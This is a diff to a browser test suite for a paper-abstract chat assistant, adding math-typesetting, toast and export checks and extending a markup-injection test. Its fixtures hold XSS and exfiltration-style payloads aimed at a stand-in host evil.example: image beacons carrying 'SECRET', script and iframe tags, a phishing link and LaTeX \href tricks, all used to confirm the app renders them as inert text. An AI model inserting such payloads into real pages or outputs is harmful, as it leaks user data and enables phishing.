@@ -20,7 +20,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
-from assistant import ui
+from assistant import exports, ui
 from assistant.config import Settings
 from assistant.types import Answer, Citation, Final, Passage, Paper, Status, TextDelta
 from conftest import free_port
@@ -203,6 +203,22 @@ def test_answer_and_sources_stay_visible_together_and_the_narrow_page_reaches_ev
     page.close()
 
 
+def test_math_in_abstracts_is_typeset_with_the_bundled_katex(browser: Browser, shared_url: str) -> None:
+    page, outside = open_page(browser, shared_url)
+    ask(page, "What is symbolic autoencoding?")
+    card = page.locator("#aa-sources .aa-card").first
+    card.wait_for()
+    math = card.locator(".aa-math .katex")  # "$\\Sigma$AE" in the seed abstract
+    expect(math.first).to_be_attached()
+    assert "Σ" in math.first.locator(".katex-html").inner_text()
+    assert "$" not in card.locator(".aa-quote").first.inner_text()  # no raw LaTeX left in the snippet
+    card.locator("summary").first.click()  # the whole abstract, typeset too
+    expect(card.locator(".aa-abstract .katex").first).to_be_visible()
+    shot(page, "chat-math.png", full_page=False)
+    assert outside == [], outside  # KaTeX, its stylesheet and fonts came from this server
+    page.close()
+
+
 def test_abstention_and_errors_are_shown_apart(browser: Browser, shared_url: str) -> None:
     page, outside = open_page(browser, shared_url)
     too_long = "Why? " * 500
@@ -268,12 +284,20 @@ def test_added_abstract_is_searchable_in_papers(browser: Browser, store_copy: Pa
 
         page, outside = open_page(browser, url)
         page.get_by_role("tab", name="Add abstracts").click()
+        page.locator("#aa-add").click()  # no file chosen: an error toast, on this tab only
+        toast = page.locator(".toast-body").filter(has_text="Choose one or more files first")
+        expect(toast).to_be_visible()
+        page.get_by_role("tab", name="Chat").click()
+        expect(page.locator(".toast-body")).to_have_count(0, timeout=3000)  # gone at once (Gradio keeps it 10 s)
+        page.get_by_role("tab", name="Add abstracts").click()
         upload(page, "#aa-upload", upload_file)
         page.locator("#aa-add").click()
         report = page.locator("#aa-add-report")
         expect(report).to_contain_text("1 new")
         expect(report).to_contain_text("75 papers")
+        expect(report).to_contain_text("1 file(s) or line(s) could not be read")  # inline, not a toast
         expect(report).to_contain_text("zebra_abstracts.jsonl:2")  # the bad line, by file and line
+        assert page.locator(".toast-body").count() == 0
         shot(page, "add-abstracts.png")
 
         page.get_by_role("tab", name="Papers").click()
@@ -300,12 +324,14 @@ def test_added_abstract_is_searchable_in_papers(browser: Browser, store_copy: Pa
 ATTACK = (
     "Zebras stripe [1]. ![leak](https://evil.example/pixel.png?q=SECRET) <img src=https://evil.example/i.png> "
     "<script>document.title='owned'</script> [click me](https://evil.example/phish) https://evil.example/bare "
-    "www.evil.example <a href=\"https://evil.example/raw\">raw link</a> **bold** $x^2$ [9]."
+    "www.evil.example <a href=\"https://evil.example/raw\">raw link</a> **bold** $x^2$ [9] "
+    "$\\href{https://evil.example/m}{y}$ $\\url{https://evil.example/u}$ $\\htmlClass{x}{z}$."
 )
 EVIL_PAPER = Paper(
     id="evil0000",
     title="Stripes <img src=https://evil.example/t.png>",
-    abstract="Zebras stripe. ![leak](https://evil.example/abstract.png) <iframe src=https://evil.example/f></iframe>",
+    abstract="Zebras stripe. ![leak](https://evil.example/abstract.png) <iframe src=https://evil.example/f></iframe> "
+    "$\\href{https://evil.example/a}{z}$",
     authors=["Mallory <b>M</b>"],
     url="https://example.org/stripes",
 )
@@ -325,6 +351,9 @@ class ScriptedAssistant:
 
     def paper(self, paper_id: str) -> Paper | None:
         return {p.id: p for p in self.papers()}.get(paper_id)
+
+    def export(self, paper_ids: list[str], fmt: str) -> str:
+        return exports.export([p for p in self.papers() if p.id in paper_ids], fmt)  # type: ignore[arg-type]
 
     def stream(self, question: str, history: object = None, **overrides: object) -> Iterator[object]:
         yield Status(stage="retrieving")
@@ -354,16 +383,20 @@ def test_model_and_abstract_text_cannot_inject_markup(browser: Browser) -> None:
         bubble = page.locator("#aa-chat .aa-answer").last
         expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
         expect(bubble).to_contain_text("<script>document.title='owned'</script>")
-        expect(bubble).to_contain_text("**bold** $x^2$ [9]")
+        expect(bubble).to_contain_text("**bold**")
+        expect(bubble).to_contain_text("[9]")
+        expect(bubble.locator(".aa-math .katex")).to_have_count(4)  # typeset, \\href and \\url untrusted
         page.locator("#aa-sources .aa-card").nth(1).wait_for()
         shot(page, "safety.png")
 
         for where in ("#aa-chat", "#aa-sources"):
-            assert page.locator(f"{where} img, {where} iframe, {where} script").count() == 0, where
+            assert page.locator(f"{where} img, {where} iframe, {where} script, {where} .x").count() == 0, where
         chat_links = page.locator("#aa-chat a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
         assert chat_links == ["#src-1-1"], chat_links  # only the resolved marker; [9] resolves to nothing
         source_links = page.locator("#aa-sources a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
-        assert source_links == ["https://example.org/stripes"], source_links  # never javascript:
+        assert source_links == ["https://example.org/stripes"], source_links  # never javascript:, nor \\href
+        bibtex = page.locator("#aa-bibtex")
+        expect(bibtex).to_contain_text("title = {Stripes <img src=https://evil.example/t.png>}")  # the references' BibTeX, as text too
         assert page.title() == "Abstract Assistant"
         assert outside == [], outside
         page.close()
